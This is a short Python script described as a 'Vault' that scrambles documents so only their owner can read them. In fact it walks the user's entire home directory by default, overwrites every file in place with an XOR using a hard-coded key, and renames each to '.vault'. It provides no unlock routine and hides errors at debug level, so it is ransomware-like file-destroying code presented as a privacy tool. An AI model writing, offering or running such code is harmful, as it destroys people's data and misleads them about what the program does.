"""'Vault' that scrambles documents so that only the owner can read them."""
import argparse
import itertools
import logging
import os

KEY = b"\x13\x37\xc0\xde\xfa\xce"
SKIP_DIRS = {".cache", ".local", "node_modules"}


def scramble(buf):
    out = bytearray(len(buf))
    for i in range(len(buf)):
        out[i] = buf[i] ^ KEY[i % len(KEY)]
    return out


def targets(root):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in SKIP_DIRS]
        for name in files:
            if not name.endswith(".vault"):
                yield os.path.join(folder, name)


def lock(path):
    with open(path, "r+b") as fh:
        data = fh.read()
        fh.seek(0)
        fh.write(scramble(data))
        fh.truncate()
    os.rename(path, path + ".vault")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", default=os.path.expanduser("~"))
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    paths = targets(args.root)
    if args.limit:
        paths = itertools.islice(paths, args.limit)
    for n, path in enumerate(paths, 1):
        try:
            lock(path)
        except OSError as exc:
            logging.debug("skip %s: %s", path, exc)
    logging.info("done")


if __name__ == "__main__":
    main()
